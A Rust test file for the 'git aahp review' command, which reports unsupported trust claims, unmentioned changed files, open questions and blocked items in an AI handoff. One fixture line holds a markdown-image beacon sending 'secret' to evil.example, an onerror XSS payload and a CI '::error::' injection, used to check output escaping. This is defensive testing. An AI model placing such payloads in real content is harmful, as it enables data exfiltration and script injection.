//! `git aahp review --base REV`: the reviewer's work-list for a pull request.

use crate::support::TestRepo;

const TRUST: &str = "\
# Trust

| Property | Status | Provenance | Last Verified | Agent | TTL | Expires | Notes |
|----------|--------|------------|---------------|-------|-----|---------|-------|
| Parser handles CRLF | verified | - | 2026-11-21 | claude | 7d | - | tested by hand |
| Auth flow works | verified | model_claim | 2026-11-21 | claude | 7d | - | I tested this |
| API is stable | verified | test_verified | 2026-11-01 | codex | 7d | - | cargo test api: exit 0 |
| Build passes | verified | tool_verified | 2026-11-21 | codex | 7d | - | - |
| Lint is clean | verified | tool_verified | 2026-11-21 | codex | 7d | - | cargo clippy: exit 0 |
| Docs are current | assumed | - | - | - | 7d | - | - |
";

const STATUS: &str = "\
# Status

<!-- SECTION: summary -->
Parser rewritten in src/parser.rs.
<!-- /SECTION: summary -->

## Open questions

- Should `parse()` accept a BOM?
- None
- ![pixel](https://evil.example/?d=secret) <img src=x onerror=alert(1)> ::error::pwned
";

const NEXT_ACTIONS: &str = "\
# Next actions

## T-010: Deploy ⏳ Blocked

**Blocked by:** staging credentials

## T-011: Write docs

**Blocked by:** -

## Open Questions

1. Who owns the auth module?
";

const LOG: &str = "\
# Log

## [2026-11-22] claude: Parser rewrite

Rewrote the parser; also touched `README.md`.
";

/// `main` with the handoff; `feature` changes code, the handoff, and leaves one file
/// unmentioned.
fn pr_repo() -> TestRepo {
    let repo = TestRepo::with_handoff();
    repo.write("src/old.rs", "// mentioned only in an old log entry\n");
    repo.write(
        ".ai/handoff/LOG.md",
        "# Log\n\n## [2026-11-20] codex: Old work\n\nTouched src/old.rs and src/helper.rs.\n",
    );
    repo.aahp(&["manifest"]).assert_code(0);
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "base"]);
    repo.git(&["switch", "-q", "-c", "feature"]);
    repo.write("src/parser.rs", "pub fn parse() {}\n");
    repo.write("src/helper.rs", "pub fn help() {}\n");
    repo.write("src/old.rs", "// changed again\n");
    repo.write("README.md", "# test\n\nMore.\n");
    repo.write(".ai/handoff/TRUST.md", TRUST);
    repo.write(".ai/handoff/STATUS.md", STATUS);
    repo.write(".ai/handoff/NEXT_ACTIONS.md", NEXT_ACTIONS);
    let old_log = repo.read(".ai/handoff/LOG.md");
    let old_entry = &old_log[old_log.find("## [").unwrap()..];
    repo.write(".ai/handoff/LOG.md", format!("{LOG}\n---\n\n{old_entry}"));
    repo.aahp(&["task", "add", "Rotate the keys"])
        .assert_code(0);
    repo.aahp(&["task", "block", "T-012", "--reason", "waiting for ops"])
        .assert_code(0);
    repo.aahp(&["task", "add", "Ship the parser"])
        .assert_code(0);
    repo.aahp(&["task", "done", "T-013"]).assert_code(0);
    let next = repo.read(".ai/handoff/NEXT_ACTIONS.md");
    repo.write(
        ".ai/handoff/NEXT_ACTIONS.md",
        format!("{next}\n## T-013: Ship the parser\n\n### Acceptance criteria\n\n- [x] parses the sample\n- [ ] errors name the line\n"),
    );
    repo.aahp(&["manifest"]).assert_code(0);
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "feature"]);
    repo
}

#[test]
fn review_lists_claims_unmentioned_files_questions_and_blocked_items() {
    let repo = pr_repo();
    let out = repo.aahp(&["review", "--base", "main"]);
    let head = repo.git(&["rev-parse", "--short=7", "HEAD"]);
    let base = repo.git(&["rev-parse", "--short=7", "main"]);
    let text = out
        .to_string()
        .replace(head.trim(), "[HEAD]")
        .replace(base.trim(), "[BASE]");
    insta::assert_snapshot!(text, @r"
    exit: 0
    --- stdout ---
    ## AAHP review: `[BASE]`..`[HEAD]`

    Handoff `.ai/handoff` at HEAD, against the merge base with `main`: 4 claims to check, 2 changed files not mentioned, 3 open questions, 2 blocked items.

    ### Claims marked verified without evidence, expired, or dated ahead (4)

    - **Parser handles CRLF**: no provenance (`.ai/handoff/TRUST.md:5`)
    - **Auth flow works**: provenance model\_claim is not independent evidence (`.ai/handoff/TRUST.md:6`)
    - **API is stable**: expired on 2026-11-08 (`.ai/handoff/TRUST.md:7`)
    - **Build passes**: no evidence in the notes (`.ai/handoff/TRUST.md:8`)

    ### Changed files the handoff does not mention (2)

    - `src/helper.rs` (added)
    - `src/old.rs` (modified)

    ### Open questions (3)

    - Who owns the auth module? — under _Open Questions_ (`.ai/handoff/NEXT_ACTIONS.md:13`)
    - Should \`parse\(\)\` accept a BOM? — under _Open questions_ (`.ai/handoff/STATUS.md:9`)
    - \!\[pixel\]\(https://evil.example/?d=secret\) \<img src=x onerror=alert\(1\)\> ::error::pwned — under _Open questions_ (`.ai/handoff/STATUS.md:11`)

    ### Blocked (2)

    - Blocked by: staging credentials — under _T-010: Deploy ⏳ Blocked_ (`.ai/handoff/NEXT_ACTIONS.md:5`)
    - **T-012** Rotate the keys \(blocked by: waiting for ops\) (`.ai/handoff/MANIFEST.json`)

    ### Acceptance criteria, advisory (1)

    - **T-013** open criterion on a done task: errors name the line (`.ai/handoff/NEXT_ACTIONS.md:20`)
    --- stderr ---
    ");
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "the inline snapshot is the whole wire format"
)]
fn review_json() {
    let repo = pr_repo();
    let out = repo.aahp(&["review", "--base", "main", "--format", "json"]);
    out.assert_code(0);
    let j = out.json();
    assert_eq!(repo.aahp(&["--json", "review", "--base", "main"]).json(), j);
    let mut j = j;
    j["merge_base"] = "[BASE]".into();
    j["head"] = "[HEAD]".into();
    insta::assert_json_snapshot!(j, @r#"
    {
      "schema_version": 1,
      "command": "review",
      "base": "main",
      "merge_base": "[BASE]",
      "head": "[HEAD]",
      "handoff": ".ai/handoff",
      "claims": [
        {
          "property": "Parser handles CRLF",
          "provenance": null,
          "expires": "2026-11-28",
          "reasons": [
            "no provenance"
          ],
          "path": ".ai/handoff/TRUST.md",
          "line": 5
        },
        {
          "property": "Auth flow works",
          "provenance": "model_claim",
          "expires": "2026-11-28",
          "reasons": [
            "provenance model_claim is not independent evidence"
          ],
          "path": ".ai/handoff/TRUST.md",
          "line": 6
        },
        {
          "property": "API is stable",
          "provenance": "test_verified",
          "expires": "2026-11-08",
          "reasons": [
            "expired on 2026-11-08"
          ],
          "path": ".ai/handoff/TRUST.md",
          "line": 7
        },
        {
          "property": "Build passes",
          "provenance": "tool_verified",
          "expires": "2026-11-28",
          "reasons": [
            "no evidence in the notes"
          ],
          "path": ".ai/handoff/TRUST.md",
          "line": 8
        }
      ],
      "unmentioned_files": [
        {
          "path": "src/helper.rs",
          "change": "added"
        },
        {
          "path": "src/old.rs",
          "change": "modified"
        }
      ],
      "open_questions": [
        {
          "text": "Who owns the auth module?",
          "section": "Open Questions",
          "path": ".ai/handoff/NEXT_ACTIONS.md",
          "line": 13
        },
        {
          "text": "Should `parse()` accept a BOM?",
          "section": "Open questions",
          "path": ".ai/handoff/STATUS.md",
          "line": 9
        },
        {
          "text": "![pixel](https://evil.example/?d=secret) <img src=x onerror=alert(1)> ::error::pwned",
          "section": "Open questions",
          "path": ".ai/handoff/STATUS.md",
          "line": 11
        }
      ],
      "blocked": [
        {
          "text": "Blocked by: staging credentials",
          "section": "T-010: Deploy ⏳ Blocked",
          "path": ".ai/handoff/NEXT_ACTIONS.md",
          "line": 5
        },
        {
          "task": "T-012",
          "text": "Rotate the keys (blocked by: waiting for ops)",
          "path": ".ai/handoff/MANIFEST.json",
          "line": null
        }
      ],
      "criteria": [
        {
          "defect": "unresolved_on_done",
          "task": "T-013",
          "text": "errors name the line",
          "path": ".ai/handoff/NEXT_ACTIONS.md",
          "line": 20
        }
      ],
      "notes": []
    }
    "#);
}

#[test]
fn review_of_a_clean_range_says_none() {
    let repo = TestRepo::with_handoff();
    repo.git(&["switch", "-q", "-c", "feature"]);
    let out = repo.aahp(&["review", "--base", "main"]);
    let head = repo.git(&["rev-parse", "--short=7", "HEAD"]);
    insta::assert_snapshot!(out.to_string().replace(head.trim(), "[HEAD]"), @r"
    exit: 0
    --- stdout ---
    ## AAHP review: `[HEAD]`..`[HEAD]`

    Handoff `.ai/handoff` at HEAD, against the merge base with `main`: 0 claims to check, 0 changed files not mentioned, 0 open questions, 0 blocked items.

    ### Claims marked verified without evidence, expired, or dated ahead (0)

    _None._

    ### Changed files the handoff does not mention (0)

    _None._

    ### Open questions (0)

    _None._

    ### Blocked (0)

    _None._

    ### Acceptance criteria, advisory (0)

    _None._
    --- stderr ---
    ");
}

#[test]
fn review_refuses_bad_input_with_exit_2() {
    let repo = pr_repo();
    insta::assert_snapshot!(repo.aahp(&["review", "--base", "no-such-branch"]), @r#"
    exit: 2
    --- stdout ---
    --- stderr ---
    error: git: could not resolve revision `no-such-branch`
    caused by: couldn't parse revision, input="no-such-branch"
    caused by: Reference "no-such-branch" could not be found
    caused by: NotFound
    "#);
    assert_eq!(repo.aahp(&["review"]).code, 2);
    assert_eq!(
        repo.aahp(&["review", "--base", "main", "--format", "xml"])
            .code,
        2
    );
    // Unrelated history: no merge base.
    repo.git(&["switch", "-q", "--orphan", "island"]);
    repo.write("island.txt", "x\n");
    repo.git(&["add", "island.txt"]);
    repo.git(&["commit", "-q", "-m", "island"]);
    insta::assert_snapshot!(repo.aahp(&["review", "--base", "main"]), @r"
    exit: 2
    --- stdout ---
    --- stderr ---
    error: `main` and HEAD have no common ancestor; nothing to compare
    ");
    // A TRUST.md that cannot be read is bad input, not an empty report.
    repo.git(&["switch", "-q", "feature"]);
    repo.write(
        ".ai/handoff/TRUST.md",
        "| Property | Status | Last Verified |\n|---|---|---|\n| X | verified | 2026-13-45 |\n",
    );
    repo.git(&["commit", "-q", "-am", "bad trust"]);
    let out = repo.aahp(&["review", "--base", "main"]);
    out.assert_code(2);
    assert!(out.stderr.contains(".ai/handoff/TRUST.md:3"), "{out}");
    // No commit at all.
    let unborn = TestRepo::unborn();
    assert_eq!(unborn.aahp(&["review", "--base", "HEAD"]).code, 2);
}

#[test]
fn review_without_a_handoff_at_head_lists_every_changed_file() {
    let repo = TestRepo::new();
    repo.git(&["switch", "-q", "-c", "feature"]);
    repo.write("src/lib.rs", "pub fn f() {}\n");
    repo.git(&["add", "-A"]);
    repo.git(&["commit", "-q", "-m", "code only"]);
    let out = repo.aahp(&["--json", "review", "--base", "main"]);
    out.assert_code(0);
    let j = out.json();
    assert_eq!(
        j["notes"],
        serde_json::json!([
            "HEAD has no handoff directory at .ai/handoff; every changed file is unaccounted for"
        ])
    );
    assert_eq!(
        j["unmentioned_files"],
        serde_json::json!([{"path": "src/lib.rs", "change": "added"}])
    );
    // The Markdown form carries the note as a quote, and no line can start a workflow command.
    let md = repo.aahp(&["review", "--base", "main"]).stdout;
    assert!(
        md.contains("> **Note:** HEAD has no handoff directory"),
        "{md}"
    );
    assert!(
        md.lines().all(|l| !l.trim_start().starts_with("::")),
        "{md}"
    );
}

#[test]
fn review_finds_its_base_as_verify_does_in_ci() {
    let repo = pr_repo();
    let main = repo.git(&["rev-parse", "main"]);
    let given = repo.aahp(&["review", "--base", "main", "--format", "json"]);
    given.assert_code(0);
    let from_env = repo.aahp_env(
        ".",
        &["review", "--format", "json"],
        &[("AAHP_BASE_SHA", main.trim())],
    );
    from_env.assert_code(0);
    assert_eq!(given.json()["merge_base"], from_env.json()["merge_base"]);
    assert_eq!(from_env.json()["blocked"].as_array().unwrap().len(), 2);
    let none = repo.aahp(&["review"]);
    none.assert_code(2);
    assert!(none.stderr.contains("pass --base REV"), "{none}");
}

/// Review s30 #8: a verified claim dated ahead of today vouches for nothing (`verify` warns,
/// `context` says to assume it does not hold), but `review` listed no claim and `status`
/// called it expired on a date still to come.
#[test]
fn a_claim_verified_on_a_date_still_to_come_is_listed_and_not_called_expired() {
    let repo = TestRepo::with_handoff();
    repo.git(&["checkout", "-q", "-b", "pr"]);
    repo.write(
        ".ai/handoff/TRUST.md",
        "# Trust\n\n| Property | Status | Provenance | Last Verified | Agent | TTL | Expires | Notes |\n|---|---|---|---|---|---|---|---|\n| Project builds | verified | test_verified | 2099-01-01 | codex | 7d | - | cargo build: exit 0 |\n",
    );
    repo.aahp(&["manifest"]).assert_code(0);
    repo.git(&["commit", "-q", "-a", "-m", "claim"]);
    let review = repo.aahp(&["review", "--base", "main"]);
    review.assert_code(0);
    assert!(
        review.stdout.contains(
            "- **Project builds**: verified on a date still to come: 2099-01-01 (`.ai/handoff/TRUST.md:5`)"
        ),
        "{review}"
    );
    let json = repo.aahp(&["review", "--base", "main", "--format", "json"]);
    assert_eq!(
        json.json()["claims"][0]["reasons"],
        serde_json::json!(["verified on a date still to come: 2099-01-01"])
    );
    let status = repo.aahp(&["status"]);
    assert!(
        status
            .stdout
            .contains("Project builds (verified on a date still to come: 2099-01-01)"),
        "{status}"
    );
    assert!(!status.stdout.contains("expired"), "{status}");
}
